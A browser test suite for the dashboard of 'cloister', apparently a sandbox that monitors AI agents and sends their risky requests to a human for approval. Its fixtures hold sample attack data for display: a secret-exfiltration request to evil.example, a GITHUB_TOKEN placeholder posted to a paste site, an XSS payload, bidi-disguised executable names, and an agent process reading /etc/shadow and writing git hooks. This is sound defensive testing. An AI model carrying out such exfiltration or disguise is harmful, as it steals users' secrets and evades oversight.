"""The dashboard's pages in a real Chromium, before a service that has 500 cells and 100,000 records.

`test_dashboard_serve.py` has the same pages before `cloister serve`.
"""
import os
import re
from pathlib import Path

import pytest

from browser import AXE, Browser, needs_browser
from dashboard_fake import BIDI, INSIDE, RECORDS, SCRIPT, START, TOKEN, WEB, Fake, approval, at, cell

pytestmark = needs_browser

SHOTS = os.environ.get("CLOISTER_SHOTS")
DOCS = Path(__file__).resolve().parents[3] / "docs/images"


@pytest.fixture(scope="module")
def chromium():
    browser = Browser()
    yield browser
    browser.close()


@pytest.fixture
def fake():
    service = Fake()
    yield service
    service.close()


@pytest.fixture
def page(chromium, fake):
    """The dashboard, logged in; at its end it must have had nothing to complain of."""
    chromium.open(fake.url + "/#code=once", time=START + 30)
    chromium.see(".row")
    yield chromium
    assert chromium.problems() == []


def go(page, hash, wait):
    page.run(f"location.hash = {hash!r}")
    page.see(wait)


# ---- what needs no browser but is about the pages
def test_pages_contact_no_other_server_and_write_no_markup():
    for file in WEB.iterdir():
        text = file.read_text()
        for bad in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function", "srcdoc", "style="):
            assert bad not in text, (file.name, bad)
        found = re.findall(r"(?:https?:)?//[a-z0-9-]+\.[a-z]+[^\s\"'`]*", text)
        assert [f for f in found if not f.startswith("http://www.w3.org/2000/svg")] == [], file.name
    html = (WEB / "index.html").read_text()
    assert re.search(r"<script(?![^>]*src=)", html) is None and "<style" not in html and not re.search(r"\son\w+=", html)


# ---- who may look
def test_login_with_a_token_and_out_again(chromium, fake):
    chromium.open(fake.url)
    chromium.see("#login-form")
    chromium.fill("#token", "not it")
    chromium.click("#login-form button")
    chromium.see("text=that is not the operator's token")
    chromium.fill("#token", TOKEN)
    chromium.press("Enter")
    chromium.see(".row")
    assert chromium.run("document.getElementById('token').value") == ""
    chromium.click("#logout")
    chromium.see("#login-form")
    assert chromium.count(".row") == 0
    assert chromium.problems() == []


def test_code_works_and_leaves_the_address(chromium, fake):
    chromium.open(fake.url + "/#code=once")
    chromium.see(".row")
    assert chromium.run("location.hash") == "#/cells"
    chromium.open(fake.url + "/#code=twice")
    chromium.see("#login-form")
    # Pasted into the tab that is open, whether somebody is logged in there or not.
    chromium.run("location.hash = '#code=once'")
    chromium.see(".row")
    assert chromium.run("location.hash") == "#/cells"
    go(chromium, "#/approvals", ".empty")
    chromium.run("location.hash = '#code=once'")
    chromium.see(".row")


# ---- the first page
def test_what_needs_a_person_is_first(page, fake):
    page.see(".alarm h2:has-text('An agent tried to send a secret where it may not go')")
    alarm = page.text(".alarm")
    for part in ("issue-triage-2", "3 attempts", "POST https://paste.example/api/new", "'GITHUB_TOKEN' is in the body", "no real value has left"):
        assert part in alarm, part
    page.see(".glance[data-kind=bad]")
    page.see(".overview .chart path.theft")
    # One that runs joins it, and can be stopped from here.
    fake.change("c0000001", thefts=1, last_theft={"time": at(20), "what": "GET https://evil.example/?k=" + SCRIPT, "why": "a placeholder"})
    page.see(".alarm h2:has-text('2 agents')")
    page.click(".alarm li:has-text('docs-crawler-1') button:text-is('Kill')")
    page.click(".alarm li:has-text('docs-crawler-1') button:text-is('Press again to kill')")
    assert fake.await_asked("/v1/cells/c0000001/kill")
    page.click(".alarm button:text-is('I have seen it')")
    page.gone(".alarm")
    page("reload")
    page.see(".row")
    page.gone(".alarm")
    # What waits is named, alike together; and what was used up, and what is to be reviewed.
    for n in range(3, 50):
        fake.ask({**approval(n), "path": "/repos/acme/site/issues"})
    page.see(".need-list li:has-text('47 times POST api.github.com/repos/acme/site/issues')")
    page.see(".need-list li:has-text('cells have used up a budget')")
    page.see("h1:has-text('things need you')")
    page.click(".need-list li >> nth=0")
    page.see("h1:text('Approvals')")


def test_without_cells_the_pages_name_a_command(chromium):
    fake = Fake(0)
    chromium.open(fake.url + "/#code=once", time=START + 30)
    chromium.see("h1:text('Nothing needs you')")
    chromium.see(".empty :text('cloister run claude')")
    # No empty picture is above it.
    chromium.gone(".overview .charts")
    chromium.gone("#stop")
    chromium.press("e")
    chromium.see("text=No cell has ended yet.")
    go(chromium, "#/approvals", ".empty :text('cloister policy edit CELL')")
    assert chromium.problems() == []
    fake.close()


# ---- 500 cells
def test_500_cells_are_there_and_few_are_in_the_document(page):
    assert page.text(".figures span >> nth=0").split() == ["500", "cells"]
    assert page.run("document.querySelector('.cells').getAttribute('aria-rowcount')") == "501"
    assert page.count(".row") < 60
    page.run("scrollTo(0, document.body.scrollHeight)")
    page.see("a:has-text('c0000500')")
    assert page.count(".row") < 60
    page.fill("[aria-label='Filter cells']", "payroll-report-250")
    page.until("document.querySelectorAll('.row').length === 1")
    assert "c0000250" in page.text(".row")


def test_an_update_touches_only_its_row(page, fake):
    page.run("""window.touched = new Set();
        new MutationObserver(list => list.forEach(m => {
            const row = (m.target.nodeType === 1 ? m.target : m.target.parentElement).closest('.row');
            touched.add(row ? row.dataset.key : m.target.className);
        })).observe(document.querySelector('.cells'), {subtree: true, childList: true, characterData: true, attributes: true}); 0""")
    for n in range(200):
        fake.change("c0000003", requests=5000 + n)
    fake.change("c0000004", state="frozen")
    fake.change("c0000400", requests=1)         # not in view
    page.see("[data-key=c0000004] :text('frozen')")
    page.until("document.querySelector('[data-key=c0000003] .c-requests').textContent === '5199'")
    assert sorted(page.run("[...touched]")) == ["c0000003", "c0000004"]


def test_updates_are_drawn_once_a_frame(page, fake):
    page.run("window.times = 0; new MutationObserver(() => times++)"
             ".observe(document.querySelector('[data-key=c0000003] .c-requests'), {childList: true}); 0")
    for n in range(2000):
        fake.change("c0000003", requests=7000 + n)
    page.until("document.querySelector('[data-key=c0000003] .c-requests').textContent === '8999'")
    assert page.run("times") < 1000


def test_cells_come_and_go(page, fake):
    fake.cells["new00001"] = {**cell(900), "id": "new00001", "name": "brand-new", "started": START + 20}
    fake.push("cell", fake.cells["new00001"])
    page.see(".row:has-text('brand-new')")
    assert page.text(".figures span >> nth=0").split() == ["501", "cells"]
    # With it goes what waits in it, though nobody tells of that.
    fake.ask({**approval(1), "cell": "new00001"})
    page.see("#nav .badge:text('1')")
    fake.push("gone", {"id": "new00001"})
    page.gone(".row:has-text('brand-new')")
    page.gone("#nav .badge")


def test_cells_with_the_keyboard(page):
    page.press("j", "j", "k", "j")
    assert page.text(".row.chosen .c-name a") == "issue-triage-2"
    page.press("Enter")
    page.see("h1:has-text('issue-triage-2')")
    page.press("u")
    page.see(".cells")
    page.press("/")
    page.type("lint-sweep")
    page.until("[...document.querySelectorAll('.row .c-name a')].every(a => a.textContent.startsWith('lint-sweep'))")
    page.press("Escape")
    page.press("End")
    assert page.text(".row.chosen .c-name a") == "lint-sweep-499"
    page.press("?")
    page.see("dialog#help :text('freeze every cell')")
    page.press("2")                      # a dialog is open: not the page's
    page.press("Escape")
    page.press("2")
    page.see("h1:text('Approvals')")


def test_sorting(page):
    page.click("[role=columnheader] >> text=Refused")
    page.until("document.querySelector('.cells .list-head [aria-sort]').textContent === 'Refused'")
    shown = page.run("""[...document.querySelectorAll('.row')].sort((a, b) => a.ariaRowIndex - b.ariaRowIndex).map(r => r.querySelector('.c-refused').textContent)""")
    assert shown[:10] == ["22"] * 7 + shown[7:10] and int(shown[9]) <= 22
    assert shown == sorted(shown, key=int, reverse=True)


# ---- text that somebody else wrote
def test_a_script_in_a_path_is_inert(page, fake):
    fake.change("c0000001", refused=1, last_refusal={"time": at(0), "what": "GET pypi.org" + SCRIPT, "why": "no-rule"}, name="<b>bold</b>")
    page.see("[data-key=c0000001] .c-refusal :text('<script>')")
    assert page.text("[data-key=c0000001] .c-name a") == "<b>bold</b>"
    fake.ask(approval(1, path=SCRIPT, reason="<img src=x onerror=alert(1)>", secrets=["</script>"]))
    go(page, "#/approvals", ".card")
    assert SCRIPT in page.text(".card h2")
    go(page, "#/cell/c0000001", ".timeline .row")
    assert SCRIPT in page.text(".row[data-key='99993'] .r-what")
    assert page.run("document.title").startswith("(1) Cell") and page.count("main script, main img") == 0


def test_invisible_characters_are_shown(page):
    go(page, "#/cell/c0000001", ".row[data-key='99992']")
    assert page.text(".row[data-key='99992'] .r-what").endswith("/invoiceU+202Efdp.exeU+0007")
    assert page.texts(".row[data-key='99992'] .odd") == ["U+202E", "U+0007"]
    assert "\u202e" in BIDI and page.run("document.body.innerText.includes('\\u202e')") is False


# ---- approvals
def test_approve_and_refuse_with_one_key(page, fake):
    for n in (1, 2, 3):
        fake.ask(approval(n))
    page.see("#nav .badge:text('3')")
    assert page.run("document.title").startswith("(3) ")
    assert page.texts(".row .c-state >> nth=0") == ["waiting"]
    go(page, "#/cell/c0000002", "a:has-text('1 request waits for an answer')")
    page.press("2")
    page.see(".card.chosen[data-armed]")
    card = page.text(".card.chosen")
    for part in ("POST", "api.github.com", "/repos/acme/site/issues/1/comments", "alice", "alice > researcher", "writing to GitHub needs a person",
                 "ask api.github.com, methods POST PATCH", "application/json, 412 bytes", '"body": "(text, 318 characters)"', "GITHUB_TOKEN", "left"):
        assert part in card, part
    page.press("a")
    assert fake.await_asked("/v1/approvals/c0000001-1/approve")[2] == {"how": "once"}
    page.see(".card[data-id=c0000001-1][data-state=approved]")
    page.see(".card.chosen[data-id=c0000002-2][data-armed]")
    page.press("f")
    assert fake.await_asked("/v1/approvals/c0000002-2/approve")[2] == {"how": "for", "for": "10m"}
    page.see(".card.chosen[data-id=c0000003-3][data-armed]")
    page.press("r")
    page.type("not on a Sunday")
    page.press("Enter")
    assert fake.await_asked("/v1/approvals/c0000003-3/refuse")[2] == {"reason": "not on a Sunday"}
    page.see(".card[data-id=c0000003-3][data-state=refused]")
    page.gone("#nav .badge")


def test_no_key_answers_an_unseen_approval(page, fake):
    fake.ask(approval(1))
    fake.ask(approval(2))
    go(page, "#/approvals", ".card.chosen[data-armed]")
    # Again, in the moment in which another request comes under the key; and once more, as a key that is held.
    page.run("""new MutationObserver((_, self) => {
            if (document.querySelector('.card.chosen[data-id=c0000002-2]')) {
                self.disconnect();
                document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', bubbles: true}));
            }
        }).observe(document.querySelector('.cards'), {subtree: true, attributes: true}); 0""")
    page.press("a")
    page.see(".card.chosen[data-id=c0000002-2][data-armed]")
    page.run("document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', bubbles: true, repeat: true})); 0")
    page.press("j")
    assert [a[1] for a in fake.asked] == ["/v1/approvals/c0000001-1/approve"]


def test_the_chosen_one_stays_while_others_come_and_go(page, fake):
    fake.ask(approval(5))
    fake.ask(approval(6))
    go(page, "#/approvals", ".card.chosen[data-id=c0000005-5][data-armed]")
    page.press("j")
    page.see(".card.chosen[data-id=c0000006-6][data-armed]")
    fake.ask(approval(1))
    fake.ask({**fake.approvals["c0000005-5"], "state": "timed_out"})
    page.see(".card[data-id=c0000005-5][data-state=timed_out]")
    page.see(".card[data-id=c0000001-1]")
    assert page.run("document.querySelector('.card.chosen').dataset.id") == "c0000006-6"


def test_alike_requests_are_answered_together(page, fake):
    for n in range(3, 50):
        fake.ask({**approval(n), "path": "/repos/acme/site/issues"})
    fake.ask(approval(1))                # another path: not one of them
    fake.ask({**approval(60), "path": "/repos/acme/site/issues", "secrets": ["OTHER_TOKEN"]})
    fake.ask({**approval(61), "path": "/repos/acme/site/issues", "headers": "x-http-method-override: DELETE"})
    # The page selects the first of those that it knows of when it opens.
    page.see("#nav .badge:text('50')")
    go(page, "#/approvals", ".card:has-text('47 times')")
    assert page.count(".card") == 4 and "50 waiting, of 4 kinds" in page.text(".bar")
    page.press("j")
    page.see(".card.chosen[data-armed]:has-text('47 times')")
    assert "Cells\n47: " in page.text(".card.chosen")
    page.click(".card.chosen summary")
    page.see(".card.chosen .each li:has-text('release-notes-3')")
    # One that comes at the moment of the answer has not been seen.
    page.run("""new MutationObserver((_, self) => {
            if (document.querySelector('.card.chosen .times')?.textContent === '48 times') {
                self.disconnect();
                document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', bubbles: true}));
            }
        }).observe(document.querySelector('.cards'), {subtree: true, childList: true, characterData: true}); 0""")
    fake.ask({**approval(70), "path": "/repos/acme/site/issues"})
    page.see(".note:has-text('Approved once: 47 times POST api.github.com/repos/acme/site/issues')")
    answered = [path for _, path, _ in fake.asked]
    assert len(answered) == 47 and "/v1/approvals/c0000070-70/approve" not in answered and "/v1/approvals/c0000060-60/approve" not in answered
    page.see("#nav .badge:text('4')")


def test_two_people(page, fake):
    fake.ask(approval(1, needs=2, approvers=["alice", "token:ops"]))
    go(page, "#/approvals", ".card.chosen[data-armed]")
    assert "0 of 2" in page.text(".card")
    page.press("a")
    page.see(".card :text('1 of 2 approved')")
    assert "token:ops" in page.text(".card .given")
    fake.ask({**fake.approvals["c0000001-1"], "state": "approved"})
    page.see(".card[data-state=approved]")


def test_an_answer_that_came_too_late_is_reported(page, fake):
    fake.ask(approval(1))
    go(page, "#/approvals", ".card.chosen[data-armed]")
    fake.late.add("c0000001-1")
    page.press("a")
    page.see(".note.bad:has-text('does not wait any more')")
    page.gone(".card[data-state=pending]")


# ---- freezing them all, and the emergency stop
def test_freeze_all_and_emergency_stop(page, fake):
    page.see("#stop:text-is('Freeze all')")
    page.press("Control+.")
    page.see("dialog.stop :text('500 cells run')")
    assert fake.asked == []
    page.press("Control+.")
    page.see("dialog.stop :text('Froze 500 cells.')")
    assert fake.await_asked("/v1/cells/freeze")
    page.press("Escape")
    page.gone("dialog.stop")
    page.see(".figures :text('500') >> nth=1")
    go(page, "#/cell/c0000001/policy", ".editor textarea")
    page.click(".editor textarea")       # in reach also while typing
    page.click("#stop")
    page.see("#stop:text('Press again')")
    page.click("dialog.stop :text('Kill every cell')")
    page.see("dialog.stop :text('Press again to kill them all')")
    page.click("dialog.stop :text('Press again to kill them all')")
    page.see("dialog.stop :text('Killed 500 cells.')")
    page.press("Escape")                 # wherever the focus is
    page.gone("dialog.stop")
    page.gone("#stop")                   # nothing is left to be frozen


def test_without_a_freezer_the_stop_kills(page, fake):
    for id in list(fake.cells)[1:]:
        fake.push("gone", {"id": id})
    page.until("document.querySelector('.figures b').textContent === '1'")
    fake.change("c0000001", can_freeze=False)
    go(page, "#/cell/c0000001", ".acts button:text-is('Kill')")
    page.gone(".acts button:has-text('Freeze')")
    page.see("#stop:text-is('Kill all')")
    page.press("Control+.")
    page.see("dialog.stop :text('1 cell runs. They have no cgroups')")
    page.gone("dialog.stop :text('Freeze every cell')")
    page.press("Control+.")
    page.see("dialog.stop :text('Press again to kill them all')")
    assert fake.asked == []
    page.press("Control+.")
    assert fake.await_asked("/v1/cells/kill")
    assert [a[1] for a in fake.asked] == ["/v1/cells/kill"]
    page.press("Escape")


# ---- what a cell changed
def test_changes_are_reviewed_applied_and_discarded(page, fake):
    page.click(".choice button:has-text('Ended')")
    page.see(".cells.ended .row:has-text('exit 1')")
    page.click(".cells.ended .row:has-text('docs-crawler-1') a:text-is('review')")
    page.see(".held-note:has-text('would run on this machine')")
    page.see(".diff.review .add:has-text('const limit = 100;')")
    page.see(".diff.review .add:has-text('<script>')")
    assert page.run("document.title").endswith("cloister")
    assert page.run("[...document.querySelectorAll('.changed li')].filter(li => !li.querySelector('input').checked).map(li => li.querySelector('b').textContent)") == ["pre-commit", "tasks.json"]
    page.click(".changed li:has-text('README.md') input")
    page.see(".acts :text('3 changes stay here')")
    fake.conflict = "changed here since the cell started (--force overwrites): 'site/src/app.js'"
    page.click("button:text-is('Apply 3')")
    page.see(".conflict:has-text('changed here since the cell started')")
    assert not fake.asked
    page.click("button:text-is('Overwrite them')")
    page.click(".conflict button:has-text('Press again')")
    sent = fake.await_asked("/v1/cells/e0000001/changes/apply")[2]
    assert sent == {"paths": [f"/home/alice/work/site/{name}" for name in ("src/app.js", "src/new.js", "logo.png")], "force": True}
    # The held ones are named only when they are ticked.
    page.see(".changed li >> nth=2")
    page.gone(".changed li >> nth=3")
    page.press("x")
    fake.conflict = None
    page.click("button:text-is('Apply 2')")
    page.see(".note:has-text('Applied 2 changes')")
    assert fake.asked[-1][2] == {"paths": ["/home/alice/work/site/.git/hooks/pre-commit", "/home/alice/work/site/README.md"]}
    page.click("button:text-is('Discard all')")
    page.click("button:has-text('Press again: all changes')")
    assert fake.await_asked("/v1/cells/e0000001/changes/discard")
    page.see("text=The changes are discarded.")
    page.gone("[role=tab] :text('to review')")
    # Its timeline stays; what only a running cell has is not offered.
    page.press("t")
    page.see(".timeline .row")
    page.gone("[role=tab]:text-is('Policy')")


# ---- one cell
def test_a_cells_page(page, fake):
    go(page, "#/cell/c0000001", ".timeline .row")
    assert page.text("h1") == "docs-crawler-1" and page.text("code.command") == "python3 tools/crawl.py --depth 3"
    page.click(".acts button:has-text('Freeze')")
    page.see(".page-cell .state:has-text('frozen')")
    page.press("z")
    page.see(".page-cell .state:has-text('running')")
    page.fill("[aria-label='Time to live, from now']", "2h")
    page.press("Enter")
    assert fake.await_asked("/v1/cells/c0000001/ttl")[2] == {"ttl": "2h"}
    page.click("button:text-is('Kill')")
    page.click("button:text-is('Press again to kill')")
    fake.await_asked("/v1/cells/c0000001/kill")
    page.see(".page-cell .state:has-text('gone')")


def test_100000_records_are_paged_filtered_and_searched(page, fake):
    go(page, "#/cell/c0000001", f".row[data-key='{RECORDS}']")
    for _ in range(6):                   # as far as there is, page after page
        before = page.run("document.querySelector('.timeline').ariaRowCount")
        page.run("scrollTo(0, document.body.scrollHeight)")
        page.until(f"Number(document.querySelector('.timeline').ariaRowCount) > {before}")
    assert page.count(".timeline .row") < 80
    page.run("scrollTo(0, 0)")
    page("choose", what="[aria-label=Type]", value="steer")
    page.see(".timeline .row :text('policy by uid 1000 “narrower for the night”')")
    page("choose", what="[aria-label=Type]", value="")
    page.fill("[aria-label='Search the timeline']", "items/4711")
    page.see(".row[data-key='4711']")
    page.until("document.querySelector('.timeline').ariaRowCount === '12'")
    page.fill("[aria-label='Search the timeline']", "")
    page.fill("[aria-label='Begin at record number']", "500")
    page.press("Tab")
    page.see(".row[data-key='500']")
    page.click(".row[data-key='500']")
    page.see(".detail:has-text('Record 500')")
    page.press("Escape")
    page.gone(".detail")
    # What was refused comes with the rule that would let it pass.
    page.click(".row[data-key='495']")
    page.see(".detail:has-text('Record 495')")
    assert page("value", what=".detail [aria-label=Rule]") == "POST wiki.internal.example/v1/items/495"
    page.fill(".detail [aria-label=Why]", "it may")
    page.click(".detail button:text('Allow')")
    assert fake.await_asked("/v1/cells/c0000001/allow")[2]["rule"] == "POST wiki.internal.example/v1/items/495"


# ---- what its processes did
WATCH = {"time": at(10), "what": "x.sh wrote /work/site/.git/hooks/pre-commit", "why": "write: .git/hooks/**"}
WHOLE = "!document.querySelector('.bar [role=status]').textContent.includes('records read')"


def test_processes_of_100_000_records(page):
    go(page, f"#/cell/{INSIDE}/processes", ".processes .row:has-text('claude')")
    page.until(WHOLE)
    assert page.text(".bar [role=status]") == "25,002 processes" and page.count(".processes .row") < 60
    assert page.run("document.querySelector('.processes').ariaRowCount") == "25003"
    # Below their parents, and what they did is with them; refused and dangerous calls are marked.
    levels = page.run("[...document.querySelectorAll('.processes .row')].sort((a, b) => a.ariaRowIndex - b.ariaRowIndex).slice(0, 9)"
                      ".map(r => `${r.ariaLevel} ${r.querySelector('.p-name b').textContent}`)")
    assert levels == ["1 first process", "2 claude", "3 bash", "4 node", "4 jest", "3 bash", "4 curl", "4 xU+202Egpj.sh", "3 make"]
    assert page.texts(".row[data-bad]:has-text('gpj.sh') .chip") == ["watch", "5 dangerous", "writable", "1 refused"]
    assert page.texts(".row[data-bad]:has-text('jest') :is(.chip, .p-files, .p-cpu, .p-peak, .p-state)") == ["2 refused", "14", "1.9s", "240M", "exit 1"]
    assert page.text(".row:has(.p-name:has-text('curl')) .p-requests") == "1" and page.count("main script, main img") == 0
    page.see("text=Not seen: system calls that are neither acts nor refused")
    # A connection is no request; a program that a shell looked for says so.
    assert page.text(".row:has-text('make -j8') .p-requests") == "" and page.run("[...document.querySelectorAll('.p-requests')].some(cell => cell.title === '2 connections')")
    page.click(".row:has-text('make -j8') .p-state")
    page.see(".detail dd:text('in 3 other places of PATH first')")
    page.press("Escape")
    # The last of 25,002; one's children hidden; and what is searched for, with those above it.
    page.run("document.querySelector('.processes').focus()")
    page.press("End")
    page.see(".row.chosen:has-text('unit24992.c')")
    page.run("scrollTo(0, 0)")
    page.click(".row:has-text('make -j8') .fold")
    page.until("document.querySelector('.processes').ariaRowCount === '10'")
    page.fill("[aria-label='Search the processes']", "cc1 unit4711.c")
    page.until("document.querySelectorAll('.processes .row').length === 4")
    assert page.text(".bar [role=status]") == "1 process"
    page.fill("[aria-label='Search the processes']", "")
    page("choose", what="[aria-label='Which processes']", value="bad")
    page.until("document.querySelectorAll('.processes .row').length === 6")
    page.click(".row:has-text('gpj.sh') .p-state")
    detail = page.text(".detail")
    for part in ("ptrace(PTRACE_ATTACH, 2) = EPERM", "5 times", 'openat("/etc/shadow", O_RDONLY) = EACCES', "write: .git/hooks/** → freeze", "runs from a writable place", "bash 31", "9f86d081", "SIGKILL"):
        assert part in detail, part
    page.click(".detail button:text('Its records in the timeline')")
    page.see(".timeline .row[data-key='22'][data-verdict=danger]:has-text('ptrace(PTRACE_ATTACH, 2) = EPERM × 5')")
    assert page.run("[...document.querySelectorAll('.timeline .row')].map(r => r.dataset.key)") == ["26", "25", "24", "23", "22", "21"]
    # A request names its process.
    page.click("button:text('process 33 ×')")
    page("choose", what="[aria-label=Type]", value="http")
    page.see(".row[data-key='19']:has-text('GET https://paste.example/x') .who:text('curl 32')")


def test_files_and_resources_of_a_cell(page, fake):
    fake.records = 27
    go(page, f"#/cell/{INSIDE}/files", ".files-list .row")
    page.until(WHOLE)
    assert [path.replace("\n", "") for path in page.texts(".f-path")] == ["/work/site/.git/hooks/pre-commit", "/work/site/node_modules/left-pad/index.js", "/work/site/src/app.js"]
    assert page.texts(".row:has-text('left-pad') :is(.chip, .f-count, .f-who, .f-grant, .f-time)") == ["created", "written", "4", "node 15", "/work/site", "13:31:40"]
    # It grows: what is new comes by itself.
    fake.records = 400
    fake.change(INSIDE, programs=100)
    page.see(".row:has-text('/work/site/build/src/part3/unit3.o')")
    page.fill("[aria-label='Search the files']", "unit7")
    page.until("[...document.querySelectorAll('.f-path b')].every(b => b.textContent.startsWith('unit7'))")
    page("choose", what="[aria-label='Which files']", value="read")
    page.see("text=No file matches.")
    page.click("[role=tab]:text('Resources')")
    page.see(".uses svg")
    labels = page.run("[...document.querySelectorAll('.uses svg')].map(s => s.getAttribute('aria-label'))")
    assert [label.split(":")[0] for label in labels] == ["Processors", "Memory", "Processes", "Disk space", "Disk traffic", "Network"]
    assert labels[0] == "Processors: at most 159% since 13:13:20"
    page.run("document.querySelector('.uses svg').focus()")
    page.press("ArrowLeft")
    assert re.match(r"14:12:20\s+71%", page.text(".uses output"))
    assert page.texts(".panel .figures span:not([hidden]) b")[:2] == ["27s", "240M"]


def test_a_watch_rule_that_fired_needs_a_person(page, fake):
    assert page.texts(".glance .figures span >> nth=-4") == ["8\nrefused calls"]
    fake.change("c0000005", watches=1, last_watch=WATCH)
    page.see(".need-list li[data-kind=bad]:has-text('translate-5: x.sh wrote /work/site/.git/hooks/pre-commit')")
    page.see(".cells .row[data-theft]:has-text('translate-5')")
    page.click(".need-list li:has-text('x.sh wrote') a")
    page.see(".alarm h2:text('A watch rule fired')")
    page.click(".alarm:has-text('write: .git/hooks/**') button")
    page.gone(".alarm:has-text('watch')")
    go(page, "#/cells", ".glance")
    page.see(".row")
    assert page.count(".need-list li:has-text('x.sh wrote')") == 0
    fake.change("c0000005", watches=2, last_watch=WATCH)
    page.see(".need-list li:has-text('2 times')")
    page.click(".need-list li:has-text('x.sh wrote') button")
    page.gone(".need-list li:has-text('x.sh wrote')")
    # What all of them used is there, too.
    page.click("button:text('Resources')")
    page.see(".overview .uses svg[aria-label^='Memory']")


MISPLACED = {"time": at(20), "what": "POST https://api.github.com/gists", "why": "the placeholder of the secret 'GITHUB_TOKEN' is in the body, where it may not be: its places are header"}


def test_a_mistake_is_a_hint_and_no_alarm(page, fake):
    """A placeholder on its way to its secret's own host."""
    page.see(".alarm h2")
    page.click(".alarm button:text-is('I have seen it')")
    page.gone(".alarm")
    fake.change("c0000001", misplaced=2, last_misplaced=MISPLACED)
    hint = ".need-list li[data-kind=warn]:has-text('docs-crawler-1: placeholder in the wrong place')"
    page.see(f"{hint}:has-text('POST https://api.github.com/gists')")
    page.gone(".alarm")
    assert page.count(".row[data-theft]") == 0
    page.click(f"{hint} button")
    page.gone(hint)
    fake.change("c0000001", misplaced=3, last_misplaced=MISPLACED)
    page.see(hint)


def test_what_is_not_measured_is_not_zero(page, fake):
    why = "document.querySelector('[data-key=c0000001] .c-cpu').title"
    assert re.fullmatch(r"\d+%", page.text("[data-key=c0000001] .c-cpu")) and page.run(why) == ""
    fake.change("c0000001", cpu=0)
    page.see("[data-key=c0000001] .c-cpu:text-is('0%')")
    for cell in fake.cells.values():
        cell.pop("cpu")
        cell.update(memory=0, pids=0)
    page("reload")
    page.see("[data-key=c0000001] .c-cpu:text-is('–')")
    assert "cloister doctor" in page.run(why)
    page.until("[...document.querySelectorAll('.glance .figures b')].slice(-3).every(b => b.textContent === '–' && b.title.includes('cloister doctor'))")
    go(page, "#/cell/c0000001", ".figures b[title*='cloister doctor']:text-is('–')")


def test_a_cell_that_is_not_there(page):
    go(page, "#/cell/nosuch", ".empty :text('There is no cell “nosuch”.')")
    assert page.count("[role=tab]:visible, h1:visible") == 0
    page.see(".empty :text('cloister ps --all')")
    page.click(".empty a:text('Cells that have ended')")
    page.see(".cells.ended .row")


def test_all_that_needs_a_person_is_counted_and_can_be_seen(page, fake):
    for n in (1, 2):
        fake.ask(approval(n))
    fake.change("c0000001", misplaced=1, last_misplaced=MISPLACED)
    page.see(".need-list li:has-text('wrong place')")
    page.click(".needs button.more")
    total, alarms = int(page.text(".glance h1").split()[0]), page.count(".alarm li")
    assert page.count(".need-list li") == total - alarms > 4
    assert page.text(".needs h2") == f"{total - alarms} more need you"
    page.click(".needs button.more:text('Show fewer')")
    page.until("document.querySelectorAll('.need-list li').length === 4")
    assert page.text(".needs button.more") == f"Show {total - alarms - 4} more"


def test_a_command_has_room(page):
    """At 1280 pixels, and no line ends within one of its words."""
    whole = "document.querySelector('[data-key=c0000001] .c-command code')"
    assert page.text("[data-key=c0000001] .c-command").split() == ["python3", "tools/crawl.py", "--depth", "3"]
    assert page.run(f"{whole}.scrollHeight <= {whole}.clientHeight")
    assert page.run(f"[...{whole}.querySelectorAll('.w')].every(w => w.scrollWidth <= w.clientWidth && w.getClientRects().length === 1)")


def test_chart_and_its_table(page):
    go(page, "#/cell/c0000001", ".plots svg")
    labels = page.run("[...document.querySelectorAll('.plots svg')].map(s => s.getAttribute('aria-label'))")
    assert re.match(r"2,\d\d\d requests since 13:13:20, \d+ refused", labels[0]) and "received" in labels[1]
    assert page.count(".plots rect.asked") == 60
    page.run("document.querySelector('.plots svg').focus()")
    page.press("ArrowLeft")
    assert re.match(r"14:12:20\s+\d+ requests, \d+ refused, .* in, .* out", page.text(".reading"))
    page.click("text=As a table")
    page.until("document.querySelectorAll('.chart tbody tr').length === 60")
    # However much was refused, it stays in the chart: names that are refused are no requests.
    go(page, "#/cell/c0000002", "h1:has-text('issue-triage-2')")
    page.see(".plots rect.refused")
    assert page.run("""[...document.querySelectorAll('.plots rect')].every(bar => Number(bar.getAttribute('y')) >= 0)""")


def test_policy_is_checked_as_it_is_typed(page, fake):
    go(page, "#/cell/c0000001/policy", ".rules li")
    assert page.texts(".rules .rule-hits b") == ["3,120", "48", "3", "214"]
    page.see("[role=status]:text('no faults')")
    text = page("value", what=".editor textarea")
    page.fill(".editor textarea", text.replace("- allow: github.com", "- alow: github.com"))
    page.see(".faults :text(\"5:5 'alow' is no key of a rule\")")
    assert page.run("document.querySelector('.gutter .fault').textContent") == "5"
    assert page.run("document.querySelector('.under mark').textContent").startswith("alow: github.com")
    assert page.run("document.querySelector('form.set button.good').disabled") is True
    page.click(".faults button")
    assert page.run("document.querySelector('.editor textarea').selectionStart") == text.index("allow: github.com")
    page.fill(".editor textarea", text.replace("    methods: [POST]\n", "    methods: [GET]\n"))
    page.until("!document.querySelector('form.set button.good').disabled")
    assert page.texts(".diff .del, .diff .add") == ["−\n    methods: [POST]", "+\n    methods: [GET]"]
    page.click("form.set button.good")       # why is asked for first
    assert not [a for a in fake.asked if a[0] == "PUT"]
    page.fill("[aria-label='Why it is changed']", "reads only")
    page.press("Enter")
    asked = fake.await_asked("/v1/cells/c0000001/policy")
    assert asked[2]["why"] == "reads only" and asked[2]["now"] is False and "methods: [GET]" in asked[2]["text"]
    page.see(".note:has-text('The policy is in force')")


def test_unsaved_text_is_kept(page, fake):
    asks = "(e => (dispatchEvent(e), e.defaultPrevented))(new Event('beforeunload', {cancelable: true}))"
    go(page, "#/cell/c0000001/policy", ".rules li")
    assert page.texts(".rules .rule-text small.dim >> nth=-1") == ["live policy, line 12"]
    text = page("value", what=".editor textarea")
    assert page.run(asks) is False
    page.fill(".editor textarea", text + "# more\n")
    page.fill("[aria-label='Why it is changed']", "later")
    page.see("[role=tab] :text('not set yet')")
    # Another part of the cell, another page, and a rule that is put in front meanwhile.
    page.click("[role=tab]:text('Budget')")
    page.see(".budgets li")
    assert page.run(asks) is True
    go(page, "#/cells", ".row")
    go(page, "#/cell/c0000002/policy", ".rules li")
    page.gone("[role=tab] :text('not set yet')")
    assert page("value", what=".editor textarea") == text
    go(page, "#/cell/c0000001/timeline", "[role=tab] :text('not set yet')")
    page.press("p")
    page.see("form.set .diff .add")
    page.fill("[aria-label=Rule]", "pypi.org")
    page.click(".quick button:text('Allow')")
